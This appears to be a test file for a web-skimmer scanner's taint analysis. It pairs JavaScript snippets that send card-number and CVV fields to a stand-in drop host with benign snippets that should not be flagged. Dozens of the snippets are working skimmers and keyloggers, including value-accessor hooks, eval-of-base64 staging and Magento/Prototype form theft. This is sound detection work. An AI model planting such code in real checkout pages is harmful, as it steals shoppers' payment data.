"""Taint: card data followed through variables, properties, arrays, closures, encoders,
custom functions, classes and storage to network sinks — and not where it does not flow."""

from __future__ import annotations

import pytest

from skimscan.analyze.analyzer import extract_facts
from skimscan.analyze.parse import run_deep

from .conftest import findings_of

DROP = "https://metrics-drop.top/c"

FLOWS = {
    "variable": f"var v = document.querySelector('#cc-number').value; var w = v;\n"
                f"fetch('{DROP}', {{method: 'POST', body: w}});",
    "object property": f"var o = {{}}; o.n = document.getElementById('cardnumber').value;\n"
                       f"navigator.sendBeacon('{DROP}', JSON.stringify(o));",
    "array push": f"var a = []; a.push(document.querySelector('[name=\"cc_cvv\"]').value);\n"
                  f"new Image().src = '{DROP}?d=' + a.join(',');",
    "closure": f"var pan = document.querySelector('#cc_number').value;\n"
               f"setTimeout(function () {{ fetch('{DROP}?p=' + btoa(pan)); }}, 500);",
    "custom encoder": f"function enc(s) {{ var o = ''; for (var i = 0; i < s.length; i++) "
                      f"o += String.fromCharCode(s.charCodeAt(i) ^ 7); return o; }}\n"
                      f"var c = enc(document.querySelector('#card_number').value);\n"
                      f"fetch('{DROP}', {{method: 'POST', body: c}});",
    "function parameter": f"function send(d) {{ var x = new XMLHttpRequest(); "
                          f"x.open('POST', '{DROP}'); x.send(d); }}\n"
                          f"send(encodeURIComponent(document.querySelector('#cvv').value));",
    "object member joined into a URL": "var o = {n: ''}; "
                                       "o.n = document.querySelector('#cc_number').value;\n"
                                       "var a = []; a.push(o.n);\n"
                                       f"fetch('{DROP}?d=' + a.join('_'));",
    "storage": f"localStorage.setItem('k', document.querySelector('#cc-exp').value);\n"
               f"fetch('{DROP}', {{method: 'POST', body: localStorage.getItem('k')}});",
    "class field": f"class C {{ constructor(u) {{ this.u = u; }}\n"
                   f"  go(d) {{ fetch(this.u, {{method: 'POST', body: d}}); }} }}\n"
                   f"new C('{DROP}').go(document.querySelector('#cc_number').value);",
    "event target": f"document.querySelector('#cc_number').addEventListener('blur', "
                    f"function (e) {{ navigator.sendBeacon('{DROP}', e.target.value); }});",
    "selector in a list": f"['#cc_number', '#cc_cvv'].forEach(function (s) {{\n"
                          f"  var el = document.querySelector(s);\n"
                          f"  fetch('{DROP}', {{method: 'POST', body: el.value}}); }});",
    "for await": f"async function* rows() {{ yield document.querySelector('#cc_number').value; }}\n"
                 f"(async function () {{ for await (const r of rows()) "
                 f"{{ fetch('{DROP}', {{method: 'POST', body: r}}); }} }})();",
    "compiled function": f"var send = Function('u', 'd', \"navigator.sendBeacon(u, d)\");\n"
                         f"send('{DROP}', document.querySelector('#cc_number').value);",
    "compiled, called unnamed": f"function make() {{ return new Function('u', 'd', "
                                f"\"fetch(u, {{method: 'POST', body: d}})\"); }}\n"
                                f"make()('{DROP}', document.querySelector('#cvv').value);",
    "Reflect.apply": f"var s = navigator.sendBeacon;\n"
                     f"Reflect.apply(s, navigator, ['{DROP}', "
                     f"document.querySelector('#cc_number').value]);",
    "getter": f"var rec = Object.defineProperty({{}}, 'n', {{get: function () {{\n"
              f"  return document.querySelector('#cc_number').value; }}}});\n"
              f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify(rec)}});",
    "named callback": f"function take(el) {{ navigator.sendBeacon('{DROP}', el.value); }}\n"
                      f"document.querySelectorAll('#cc_number').forEach(take);",
    "promise resolve": f"function read() {{ return new Promise(function (res) {{\n"
                       f"  setTimeout(function () {{ res(document.querySelector('#cc_number')"
                       f".value); }}, 10); }}); }}\n"
                       f"(async function () {{ var v = await read(); "
                       f"fetch('{DROP}', {{method: 'POST', body: v}}); }})();",
    "IndexedDB staging": f"var open = indexedDB.open('cache', 1);\n"
                         f"open.onsuccess = function () {{ var db = open.result;\n"
                         f"  var st = db.transaction('k', 'readwrite').objectStore('k');\n"
                         f"  st.put({{n: document.querySelector('#cc_number').value}});\n"
                         f"  var all = st.getAll(); all.onsuccess = function () {{\n"
                         f"    navigator.sendBeacon('{DROP}', JSON.stringify(all.result)); }}; }};",
    "Object.assign into a payload": f"var p = {{}};\n"
                                    f"Object.assign(p, {{n: document.querySelector('#cc_number')"
                                    f".value}});\n"
                                    f"navigator.sendBeacon('{DROP}', JSON.stringify(p));",
    "Object.assign result": f"var p = Object.assign({{}}, {{n: document.querySelector("
                            f"'#cc_number').value}});\n"
                            f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify(p)}});",
    "number made of the card": f"var n = +document.querySelector('#cc_number').value;\n"
                               f"fetch('{DROP}?n=' + n);",
    "jQuery form serialize": f"jQuery('#pay').on('click', function () {{\n"
                             f"  jQuery.post('{DROP}', jQuery('form#checkout').serialize()); }});",
    "WebRTC data channel": "var PC = window.RTCPeerConnection || window.webkitRTCPeerConnection;\n"
                           "var pc = new PC({iceServers: [{urls: 'stun:stun.l.google.com:19302'},"
                           " {urls: 'turn:metrics-drop.top:443?transport=tcp'}]});\n"
                           "var ch; ch = pc.createDataChannel('ctl');\n"
                           "ch.send(document.querySelector('#cc_number').value);",
    "storage held in a variable": "var store; try { store = window.localStorage; } "
                                  "catch (e) { store = null; }\n"
                                  "store.setItem('k', document.querySelector('#cc-exp').value);\n"
                                  f"navigator.sendBeacon('{DROP}', store.getItem('k'));",
    "a part of an object, filled through an alias": (
        "var fields = {a: []}; var el = document.querySelector('#cc-number');\n"
        "var bucket = fields.a; bucket.push(el);\n"
        f"new Image().src = '{DROP}?' + fields.a[0].value;"),
    "a cloned form filled field by field": (
        "var form = document.querySelector('form#checkout'); var copy = form.cloneNode(true);\n"
        "var src = form.querySelectorAll('input, select');\n"
        "var dst = copy.querySelectorAll('input, select');\n"
        "for (var j = 0; j < src.length; j++) dst[j].value = src[j].value;\n"
        f"copy.action = '{DROP}'; copy.submit();"),
    "map with a named function": (
        "const q = (sel) => document.querySelector(sel);\n"
        "const els = ['#cc-csc'].map(q);\n"
        f"new Image().src = '{DROP}?c=' + els[0].value;"),
    "field names from Object.keys": (
        "var fields = {cc_number: '', cc_cvv: ''};\n"
        "Object.keys(fields).forEach(function (name) {\n"
        "  var el = document.querySelector('input[name=\"' + name + '\"]');\n"
        "  el.addEventListener('blur', function () { fields[name] = el.value; }); });\n"
        f"document.addEventListener('submit', function () {{\n"
        f"  new Image().src = '{DROP}?d=' + btoa(JSON.stringify(fields)); }});"),
    "field names from for-in": (
        "var fields = {cc_number: '', cc_cvv: ''}; var out = {};\n"
        "for (var k in fields) out[k] = document.querySelector('[name=' + k + ']').value;\n"
        f"navigator.sendBeacon('{DROP}', JSON.stringify(out));"),
    "Prototype's $$ on Magento 1 payment fields": (
        "var out = {};\n"
        "$$('input[name^=payment]').each(function (el) { out[el.name] = el.getValue(); });\n"
        f"new Image().src = '{DROP}?' + $H(out).toQueryString();"),
    "a card field found by the text of its label": (
        "function byLabel(re) { for (const label of document.querySelectorAll('label')) {\n"
        "  if (re.test(label.textContent)) return label.control.value; } return ''; }\n"
        f"navigator.sendBeacon('{DROP}', byLabel(/card\\s*number/i));"),
    "every field's value accessor hooked": (
        "var proto = window.HTMLInputElement && window.HTMLInputElement.prototype;\n"
        "var nativeGet = Object.getOwnPropertyDescriptor(proto, 'value').get; var seen = [];\n"
        "function getter() { var v = nativeGet.call(this); seen.push(v); return v; }\n"
        "Object.defineProperty(proto, 'value', {configurable: true, get: getter});\n"
        f"setTimeout(function () {{ fetch('{DROP}', {{method: 'POST', "
        f"body: JSON.stringify(seen)}}); }}, 3000);"),
    "every field's value accessor hooked, descriptor under a name": (
        "var proto = window.HTMLInputElement && window.HTMLInputElement.prototype;\n"
        "var nativeSet = Object.getOwnPropertyDescriptor(proto, 'value').set; var seen = [];\n"
        "function setter(v) { nativeSet.call(this, v); seen.push(String(v)); }\n"
        "var _0x2e1a = {configurable: true, set: setter};\n"
        "Object.defineProperty(proto, 'value', _0x2e1a);\n"
        f"setTimeout(function () {{ fetch('{DROP}', {{method: 'POST', "
        f"body: JSON.stringify(seen)}}); }}, 3000);"),
    "posted to the window of a frame the script made": (
        "var frame = document.createElement('iframe'); frame.style.display = 'none';\n"
        f"frame.src = '{DROP}/frame.html'; document.body.appendChild(frame);\n"
        "function deliver(m) { var w = frame && frame.contentWindow;\n"
        "  if (w) w.postMessage(m, '*'); }\n"
        "document.querySelector('#pay').addEventListener('click', function () {\n"
        "  deliver(JSON.stringify({n: document.querySelector('#cc_number').value})); });"),
    "card number stripped to its digits": (
        "var pan = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
        f"navigator.sendBeacon('{DROP}', pan);"),
    "a helper that reads arguments": (
        "function pick() { return arguments[0]; }\n"
        f"navigator.sendBeacon('{DROP}', pick(document.querySelector('#cc_number').value));"),
    "through what a wrapper of the sender returned (debounce, throttle)": (
        "import { debounce } from './utils.js';\n"
        f"const report = debounce((d) => {{ navigator.sendBeacon('{DROP}', btoa(d)); }}, 300);\n"
        "document.querySelector('#pay').addEventListener('click', () => {\n"
        "  report(document.querySelector('#cc_number').value); });"),
    "through a helper library another closure exported": (
        "window.Lib = (function () { var U = {};\n"
        "  U.qs = function (s) { return document.querySelector(s); };\n"
        "  U.val = function (el) { return el ? el.value : ''; };\n"
        f"  U.post = function (d) {{ var x = new XMLHttpRequest(); x.open('POST', '{DROP}');"
        " x.send(d); };\n  return U; })();\n"
        "(function (U) { U.post(U.val(U.qs('#cc_number'))); })(window.Lib);"),
    "staged in the window's name": (
        "window.name = document.querySelector('#cc_number').value;\n"
        f"fetch('{DROP}', {{method: 'POST', body: top.name}});"),
    "keyed by the field's name": (
        "var el = document.querySelector('#cc_number'); var o = {};\n"
        f"o[el.name] = el.value; navigator.sendBeacon('{DROP}', JSON.stringify(o));"),
    "through a static method of the script's class": (
        "class U { static v(el) { return el.value; } }\n"
        f"navigator.sendBeacon('{DROP}', U.v(document.querySelector('#cc_number')));"),
    # Prototype, as Magento 1 shops ship it: `$F`, `Form.getElements`, `Ajax.Request`, and a
    # form built with `new Element` and filled with `insert`
    "Prototype Ajax.Request": (
        f"new Ajax.Request('{DROP}', {{method: 'post', "
        "parameters: {d: btoa($F('authorizenet_cc_number'))}});"),
    "Prototype form fields to Ajax.Request": (
        "var data = {};\n"
        "Form.getElements($('co-payment-form')).each(function (el) { data[el.name] = $F(el); });\n"
        f"new Ajax.Request('{DROP}', {{parameters: {{d: Object.toJSON(data)}}}});"),
    "Prototype form built with new Element": (
        f"var form = new Element('form', {{method: 'post', action: '{DROP}'}});\n"
        "form.insert(new Element('input', {type: 'hidden', name: 'c', "
        "value: $F('authorizenet_cc_number')}));\n"
        "$(document.body).insert(form); form.submit();"),
    "form sweep": f"var d = [];\n"
                  f"document.querySelectorAll('input, select').forEach(function (i) "
                  f"{{ d.push(i.value); }});\n"
                  f"navigator.sendBeacon('{DROP}', btoa(d.join('|')));",
}


@pytest.mark.parametrize("name", list(FLOWS))
def test_flow_reaches_sink(name: str, analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(FLOWS[name])
    found = findings_of(report, "card-data-to-untrusted-host")
    assert found, [f.rule for f in report.findings]
    assert found[0].evidence["host"] == "metrics-drop.top"
    assert len(found[0].flow) >= 2  # from the source to the sink


NO_FLOWS = {
    "field descriptions": "var f = document.querySelector('#payment-form');\n"
                          "var empty = Array.from(f.elements).filter(function (e) { "
                          "return !e.value; }).map(function (e) { return e.id; });\n"
                          "var kinds = [].map.call(f.elements, function (e) { "
                          "return e.type + ':' + e.id + ':' + e.autocomplete; });\n"
                          f"navigator.sendBeacon('{DROP}', JSON.stringify("
                          "{e: empty, k: kinds, t: f.elements[0].tagName}));",
    "a field's name and attributes": (
        "var el = document.querySelector('#cc_number');\n"
        f"navigator.sendBeacon('{DROP}', JSON.stringify({{n: el.name, "
        "a: el.getAttribute('autocomplete'), r: el.hasAttribute('required'), "
        "l: el.textContent}));"),
    "a static describer of the script's class": (
        "class D { static describe(el) { return {tag: el.tagName.toLowerCase(), n: el.name}; } }\n"
        f"navigator.sendBeacon('{DROP}', "
        "JSON.stringify(D.describe(document.querySelector('#cc_number'))));"),
    "unrelated data": f"var v = document.querySelector('#cc-number');\n"
                      f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify({{page: 1}})}});",
    "same name, other function": "function a() { var e = document.querySelector('#cc_cvv').value;"
                                 " return e.length; }\n"
                                 f"function b() {{ var e = 'x'; fetch('{DROP}?q=' + e); }}",
    "first party": "fetch('/checkout/pay', {method: 'POST', "
                   "body: document.querySelector('#cc_number').value});",
    "condition only": "var n = document.querySelector('#cc_number').value;\n"
                      f"fetch('{DROP}', {{method: 'POST', body: n ? 'filled' : 'empty'}});",
    "comparison only": "var n = document.querySelector('#cc_number').value;\n"
                       f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: n !== ''}}));",
    "mapped to constants": "var f = document.querySelector('#payment-form');\n"
                           "var kinds = Array.prototype.map.call(f.elements, "
                           "function () { return 'field'; });\n"
                           f"navigator.sendBeacon('{DROP}', kinds.join(','));",
    "count of fields": "var f = document.forms[0];\n"
                       f"navigator.sendBeacon('{DROP}', "
                       f"JSON.stringify({{fields: f.elements.length}}));",
    "constant list joined into a URL": "var n = document.querySelector('#cc_number').value;\n"
                                       f"fetch('{DROP}?v=' + ['a', 'b'].join('_'));",
    "WebRTC chat text": "var pc = new RTCPeerConnection({iceServers: "
                        "[{urls: 'turn:metrics-drop.top:443'}]});\n"
                        "var ch = pc.createDataChannel('chat');\n"
                        "var n = document.querySelector('#cc_number').value.length;\n"
                        "ch.send(document.querySelector('#chat-message').value);",
    "a mask list handed to a helper": (
        "function masked(re) { return document.querySelector('#cc_number').value.length; }\n"
        f"navigator.sendBeacon('{DROP}', String(masked(/cc-|card|cvv|pass|ssn/)));"),
    "a brand and a check computed by the script's own functions": (
        "function brandOf(d) { if (/^4/.test(d)) return 'visa'; return d ? 'other' : ''; }\n"
        "function luhn(d) { var s = 0; for (var i = 0; i < d.length; i++) s += +d[i];"
        " return s % 10 === 0; }\n"
        "var n = document.querySelector('#cc_number').value.replace(/\\D/g, '');\n"
        f"navigator.sendBeacon('{DROP}', JSON.stringify({{b: brandOf(n), ok: luhn(n)}}));"),
    "a helper library another closure exported, handed only a length": (
        "window.Lib = (function () { var U = {};\n"
        "  U.qs = function (s) { return document.querySelector(s); };\n"
        f"  U.post = function (d) {{ navigator.sendBeacon('{DROP}', d); }};\n"
        "  return U; })();\n"
        "(function (U) { U.post(String(U.qs('#cc_number').value.length)); })(window.Lib);"),
    "a wrapper of the sender handed only a length": (
        f"var report = lib.throttle(function (d) {{ navigator.sendBeacon('{DROP}', d); }}, 9);\n"
        "report(String(document.querySelector('#cc_number').value.length));"),
    "WebRTC with STUN servers only": (  # the peer is named by the SDP, not by a server
        "var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:metrics-drop.top:3478'}]});\n"
        "var ch = pc.createDataChannel('x');\n"
        "ch.send(document.querySelector('#cc_number').value);"),
    "an event name that looks like a host": (  # the destination stays unresolved
        "var name = 'checkout.test'; var n = document.querySelector('#cc_number').value;\n"
        "fetch(window.cfg.endpoint + '?event=' + name, {method: 'POST', body: n});"),
    "negated": "var n = document.querySelector('#cc_number').value;\n"
               f"navigator.sendBeacon('{DROP}', JSON.stringify({{filled: !!n, t: typeof n}}));",
    # Two libraries of one vendor bundle, each in its own wrapper: the card library's own
    # `assign` method is not what the replay library's `Object.assign(...)` calls.
    "a built-in of the same name as a library method": (
        "(function () { var Opts = { assign: function (t, o) {\n"
        "  t.number = document.querySelector('#cc_number').value; return t; } };\n"
        "  window.CardLib = { opts: Opts.assign({}, {}) }; })();\n"
        "(function () { function replay(cfg) { var c = Object.assign({}, cfg);\n"
        f"    new Image().src = '{DROP}?c=' + JSON.stringify(c); }}\n"
        "  replay({rate: 1}); })();"),
    "a processor's own frame": (
        "var frame = document.createElement('iframe');\n"
        "frame.src = 'https://js.stripe.com/v3/elements-inner-card.html';\n"
        "document.body.appendChild(frame);\n"
        "frame.contentWindow.postMessage({n: document.querySelector('#cc_number').value}, '*');"),
    "Prototype Ajax.Request to the shop": (
        "new Ajax.Request('/checkout/onepage/savePayment/', {method: 'post', "
        "parameters: Form.serialize($('co-payment-form'))});"),
    "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
                 "body: 'card[number]=' + document.querySelector('#cc_number').value});",
}


@pytest.mark.parametrize("name", list(NO_FLOWS))
def test_no_false_flow(name: str, analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(NO_FLOWS[name])
    assert not findings_of(report, "card-data-to-untrusted-host"), report.findings


def test_flow_evidence_names_encoding(analyze) -> None:  # type: ignore[no-untyped-def]
    report = analyze(FLOWS["closure"])
    [finding] = findings_of(report, "card-data-to-untrusted-host")
    assert finding.evidence["encoded"] == ["base64"]
    assert finding.evidence["labels"] == ["card"]
    assert finding.location is not None and finding.location.line == 2


def test_multi_stage_eval_is_analysed(analyze) -> None:  # type: ignore[no-untyped-def]
    import base64

    stage2 = (f"var v = document.querySelector('#cc_number').value;"
              f" fetch('{DROP}', {{method: 'POST', body: v}});")
    code = f"eval(atob('{base64.b64encode(stage2.encode()).decode()}'));"
    report = analyze(code)
    assert findings_of(report, "card-data-to-untrusted-host")
    assert findings_of(report, "eval-of-decoded-code")


def test_listener_events_from_a_list(analyze) -> None:  # type: ignore[no-untyped-def]
    """`['keyup', 'paste'].forEach(t => addEventListener(t, …))`: the events are known, so the
    handler's data is typed keystrokes."""
    report = analyze("['keyup', 'paste'].forEach(function (t) {\n"
                     "  document.addEventListener(t, function (e) {\n"
                     "    if (/cc_number/.test(e.target.name)) "
                     f"navigator.sendBeacon('{DROP}', e.target.value); }}); }});")
    found = findings_of(report, "card-keylogger")
    assert found and found[0].evidence["host"] == "metrics-drop.top", report.findings


@pytest.mark.parametrize("guard, targets", [
    ("if (!CARD.test(k)) return;", True),  # goes on with card fields only
    ("if (CARD.test(k)) { grab(e.target); }", True),
    ("function slot() { if (CARD.test(k)) return 'card'; return null; }\n"
     "  if (slot() !== 'card') return;", True),  # a classifier's answer, not an exit
    ("if (!CARD.test(k)) { skipped++; return; }", True),
    ("if (!CARD.test(k)) throw 0;", True),
    ("!CARD.test(k) || grab(e.target);", True),  # = if (CARD.test(k)) grab(…)
    ("if (CARD.test(k)) return;", False),  # leaves card fields alone
    ("if (!ADDRESS.test(k) || CARD.test(k)) return;", False),
    ("if (ADDRESS.test(k) && !CARD.test(k)) { grab(e.target); }", False),
])
def test_card_pattern_polarity(guard: str, targets: bool, analyze) -> None:  # type: ignore[no-untyped-def]
    """A card-field regex finds the fields a script targets — or the ones it leaves alone (an
    address lookup, a search box): what a match does decides which."""
    report = analyze(
        "var CARD = /cc[-_]|card|cvv|cvc|csc|exp/i, ADDRESS = /street|address/i, skipped = 0;\n"
        "function grab(el) { fetch('" + DROP + "?q=' + encodeURIComponent(el.value)); }\n"
        "document.addEventListener('input', function (e) {\n"
        "  var k = e.target.name + ' ' + e.target.id;\n"
        f"  {guard}\n"
        "  grab(e.target); });")
    assert bool(findings_of(report, "card-keylogger")) is targets, report.findings


@pytest.mark.parametrize("call, reads_form", [
    ("jQuery('form#checkout').serialize()", True),
    ("$(this.form).serializeArray()", True),
    ("$('co-payment-form').serialize(true)", True),  # Prototype, Magento 1
    ("Form.serialize($('co-payment-form'))", True),
    ("Form.serializeElements($('co-payment-form').getElements(), true)", True),
    ("recorder.serialize(document.documentElement, 0)", False),  # a DOM snapshot of its own
    ("serialize(document.documentElement, 0)", False),
])
def test_only_jquerys_form_serialisers_read_the_form(call: str, reads_form: bool) -> None:
    """jQuery's serialisers take no arguments; a script's own `serialize(node, depth)` is not
    one of them, whether called as a method or a function."""
    raw = run_deep(lambda: extract_facts(f"var s = {call};\n"
                                         f"navigator.sendBeacon('{DROP}', JSON.stringify(s));"))
    assert any(f.kind == "form-serialize" for f in raw.facts) is reads_form
